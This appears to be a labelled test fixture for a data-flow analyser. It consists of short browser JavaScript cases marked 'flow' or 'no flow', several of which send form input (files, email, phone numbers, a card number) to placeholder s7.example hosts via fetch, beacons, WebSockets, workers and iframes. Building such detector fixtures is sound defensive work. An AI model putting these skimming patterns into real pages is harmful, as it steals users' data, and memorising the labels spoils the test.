//# readable-stream-body
// flow: message > rsb.s7.example via fetch
const text = document.querySelector('textarea[name=message]').value;
const body = new ReadableStream({
  start(controller) {
    controller.enqueue(new TextEncoder().encode(text));
    controller.close();
  },
});
await fetch('https://rsb.s7.example/up', { method: 'POST', body, duplex: 'half' });

//# file-stream-piped-through-transform
// flow: file > fst.s7.example via fetch
document.querySelector('input[type=file]').addEventListener('change', async ({ target }) => {
  const [file] = target.files;
  const counted = file.stream().pipeThrough(new TransformStream({
    transform(chunk, controller) { progress(chunk.byteLength); controller.enqueue(chunk); },
  }));
  await fetch('https://fst.s7.example/upload', { method: 'PUT', body: counted, duplex: 'half' });
});
function progress(n) { document.title = String(n); }

//# transform-stream-replaces-chunks
// no flow
// why: the transform hands on only the size of each chunk
document.querySelector('input[type=file]').addEventListener('change', async ({ target }) => {
  const sizes = target.files[0].stream().pipeThrough(new TransformStream({
    transform(chunk, controller) { controller.enqueue(chunk.byteLength); },
  }));
  const reader = sizes.getReader();
  for (;;) {
    const { done, value } = await reader.read();
    if (done) break;
    navigator.sendBeacon('https://tsr0.s7.example/size', String(value));
  }
});

//# pipe-to-writable-sink
// flow: file > ptw.s7.example via websocket
const socket = new WebSocket('wss://ptw.s7.example/in');
const sink = new WritableStream({ write(chunk) { socket.send(chunk); }, close() { socket.close(); } });
document.querySelector('input[type=file]').onchange = (e) => e.target.files[0].stream().pipeTo(sink);

//# stream-reader-loop
// flow: file > srl.s7.example via fetch
async function* chunks(stream) {
  const reader = stream.getReader();
  try {
    while (true) {
      const { done, value } = await reader.read();
      if (done) return;
      yield value;
    }
  } finally { reader.releaseLock(); }
}
document.querySelector('input[type=file]').onchange = async (e) => {
  let part = 0;
  for await (const chunk of chunks(e.target.files[0].stream())) {
    await fetch(`https://srl.s7.example/part/${part++}`, { method: 'POST', body: chunk });
  }
};

//# async-event-iterator
// flow: search > aei.s7.example via fetch
async function* events(target, type) {
  let wake;
  const queue = [];
  target.addEventListener(type, (e) => { queue.push(e); wake?.(); });
  for (;;) {
    while (queue.length) yield queue.shift();
    await new Promise((r) => { wake = r; });
  }
}
(async () => {
  for await (const e of events(document.querySelector('input[type=search]'), 'input')) {
    await fetch('https://aei.s7.example/?q=' + encodeURIComponent(e.target.value));
  }
})();

//# generator-map-filter-pipeline
// flow: email > gmp.s7.example via beacon
function* map(it, fn) { for (const x of it) yield fn(x); }
const pairs = map(document.querySelectorAll('input[type=email]'), (el) => [el.name, el.value]);
navigator.sendBeacon('https://gmp.s7.example/', JSON.stringify(Object.fromEntries(pairs)));

//# generator-sends-values-in
// flow: phone > gsv.s7.example via fetch
function* saver() {
  while (true) {
    const value = yield;
    fetch('https://gsv.s7.example/', { method: 'POST', body: value });
  }
}
const save = saver();
save.next();
document.querySelector('input[type=tel]').addEventListener('change', (e) => save.next(e.target.value));

//# worker-message-by-type
// flow: email > wmt.s7.example via fetch
// why: near miss: messages of type `strength` carry the password and are only measured
const source = `
  self.addEventListener('message', ({ data }) => {
    switch (data.type) {
      case 'lead': fetch('https://wmt.s7.example/lead', { method: 'POST', body: JSON.stringify(data.payload) }); break;
      case 'strength': self.postMessage({ score: data.payload.length > 10 ? 2 : 1 }); break;
    }
  });`;
const w = new Worker(URL.createObjectURL(new Blob([source], { type: 'text/javascript' })), { type: 'module' });
document.querySelector('input[type=email]').onchange = (e) => w.postMessage({ type: 'lead', payload: e.target.value });
document.querySelector('input[type=password]').oninput = (e) => w.postMessage({ type: 'strength', payload: e.target.value });

//# shared-worker-broadcasts-back
// flow: search > swb.s7.example via fetch
const code = `const ports = [];
onconnect = ({ ports: [port] }) => {
  ports.push(port);
  port.onmessage = ({ data }) => { for (const p of ports) p.postMessage({ echo: data }); };
};`;
const shared = new SharedWorker(URL.createObjectURL(new Blob([code])));
shared.port.onmessage = ({ data }) => { fetch('https://swb.s7.example/?e=' + encodeURIComponent(data.echo)); };
shared.port.postMessage(document.querySelector('input[type=search]').value);

//# port-handed-to-frame
// flow: card > phf.s7.example via fetch
const doc = `<script>addEventListener('message', (e) => { const port = e.ports[0]; port.onmessage = (m) => fetch('https://phf.s7.example/tok', { method: 'POST', body: m.data }); });<\/script>`;
const frame = document.createElement('iframe');
frame.srcdoc = doc;
document.body.append(frame);
frame.onload = () => {
  const { port1, port2 } = new MessageChannel();
  frame.contentWindow.postMessage('init', '*', [port2]);
  port1.postMessage(document.querySelector('input[autocomplete=cc-number]').value);
};

//# worker-reply-promise-by-id
// flow: message > wrp.s7.example via fetch
const rpcSource = `onmessage = async ({ data: { id, method, args } }) => {
  const api = { upper: (s) => s.toUpperCase(), size: (s) => s.length };
  postMessage({ id, result: await api[method](...args) });
};`;
const rpc = new Worker(URL.createObjectURL(new Blob([rpcSource])));
const waiting = new Map();
let next = 0;
rpc.onmessage = ({ data }) => { waiting.get(data.id)?.(data.result); waiting.delete(data.id); };
const call = (method, ...args) => new Promise((resolve) => { waiting.set(++next, resolve); rpc.postMessage({ id: next, method, args }); });
const loud = await call('upper', document.querySelector('textarea[name=message]').value);
await fetch('https://wrp.s7.example/', { method: 'POST', body: loud });

//# broadcast-channel-type-filter
// no flow
// why: what carries the password is of type `lock`; the listener sends only messages of type `page`, which hold a constant
const bc = new BroadcastChannel('app');
bc.addEventListener('message', ({ data }) => {
  if (data.type !== 'page') return;
  navigator.sendBeacon('https://bct0.s7.example/p', data.value);
});
const other = new BroadcastChannel('app');
other.postMessage({ type: 'page', value: 'home' });
other.postMessage({ type: 'lock', value: document.querySelector('input[type=password]').value });

//# service-worker-message
// flow: identifier > swm.s7.example via postmessage
// why: the service worker is another file; what reaches it is all that can be said
navigator.serviceWorker.register('https://swm.s7.example/sw.js').then((r) => r.active.postMessage({ id: localStorage.getItem('anon_id') }));

//# event-target-typed-detail
// flow: username > etd.s7.example via beacon
class SessionEvents extends EventTarget {
  login(user) { this.dispatchEvent(new CustomEvent('login', { detail: { user, at: Date.now() } })); }
}
const session = new SessionEvents();
session.addEventListener('login', ({ detail: { user } }) => navigator.sendBeacon('https://etd.s7.example/l', user));
document.querySelector('form').onsubmit = (e) => session.login(new FormData(e.target).get('username'));

//# event-target-detail-other-key
// no flow
// why: the listener sends the time, not the user
class AuditEvents extends EventTarget {
  login(user) { this.dispatchEvent(new CustomEvent('login', { detail: { user, at: Date.now() } })); }
}
const audit = new AuditEvents();
audit.addEventListener('login', ({ detail: { at } }) => navigator.sendBeacon('https://etd0.s7.example/l', String(at)));
document.querySelector('form').onsubmit = (e) => audit.login(new FormData(e.target).get('username'));

//# nano-events-unbind
// no flow
// why: the function that `on` returns was called before anything is emitted, so the listener is gone
const createNanoEvents = () => ({
  events: {},
  emit(event, ...args) { for (const cb of this.events[event] || []) cb(...args); },
  on(event, cb) { (this.events[event] ||= []).push(cb); return () => { this.events[event] = this.events[event]?.filter((i) => cb !== i); }; },
});
const nano = createNanoEvents();
const off = nano.on('typed', (v) => fetch('https://neu0.s7.example/', { method: 'POST', body: v }));
off();
nano.emit('typed', document.querySelector('input[type=email]').value);

//# mitt-all-keys
// flow: email > mit.s7.example via fetch
// why: near miss: `close` is emitted with the password's length only
function mitt(all = new Map()) {
  return {
    on(type, handler) { const h = all.get(type); h ? h.push(handler) : all.set(type, [handler]); },
    emit(type, evt) { all.get(type)?.slice().map((h) => h(evt)); },
  };
}
const bus = mitt();
bus.on('open', (evt) => fetch('https://mit.s7.example/o', { method: 'POST', body: JSON.stringify(evt) }));
bus.on('close', (evt) => fetch('https://mit.s7.example/c', { method: 'POST', body: JSON.stringify(evt) }));
bus.emit('open', { who: document.querySelector('input[type=email]').value });
bus.emit('close', { n: document.querySelector('input[type=password]').value.length });

//# websocket-json-rpc-client
// flow: message > wsr.s7.example via websocket
class Rpc {
  #ws; #pending = new Map(); #seq = 0; #ready;
  constructor(url) {
    this.#ws = new WebSocket(url);
    this.#ready = new Promise((ok) => this.#ws.addEventListener('open', ok, { once: true }));
    this.#ws.addEventListener('message', ({ data }) => { const { id, result } = JSON.parse(data); this.#pending.get(id)?.(result); });
  }
  async call(method, params) {
    await this.#ready;
    const id = ++this.#seq;
    const answer = new Promise((r) => this.#pending.set(id, r));
    this.#ws.send(JSON.stringify({ jsonrpc: '2.0', id, method, params }));
    return answer;
  }
}
const api = new Rpc('wss://wsr.s7.example/rpc');
document.querySelector('#ask').addEventListener('click', () => api.call('chat.send', { text: document.querySelector('textarea[name=message]').value }));

//# structured-clone-snapshot
// flow: email > scl.s7.example via fetch
// why: the snapshot was taken before the field was cleared
const form = { email: document.querySelector('input[type=email]').value, tries: 0 };
const snapshot = structuredClone(form);
form.email = '';
fetch('https://scl.s7.example/', { method: 'POST', body: JSON.stringify(snapshot) });

//# structured-clone-cleared-copy
// no flow
// why: the clone's password is deleted before it is sent, the original stays home
const login = { password: document.querySelector('input[type=password]').value, step: 2 };
const safe = structuredClone(login);
delete safe.password;
fetch('https://scl0.s7.example/', { method: 'POST', body: JSON.stringify(safe) });

//# sse-over-fetch-answer-only
// no flow
// why: what is read is the server's stream; nothing typed is sent
const answer = await fetch('https://sof0.s7.example/stream');
const decoder = answer.body.pipeThrough(new TextDecoderStream()).getReader();
const field = document.querySelector('textarea[name=message]');
for (let r = await decoder.read(); !r.done; r = await decoder.read()) field.value += r.value;
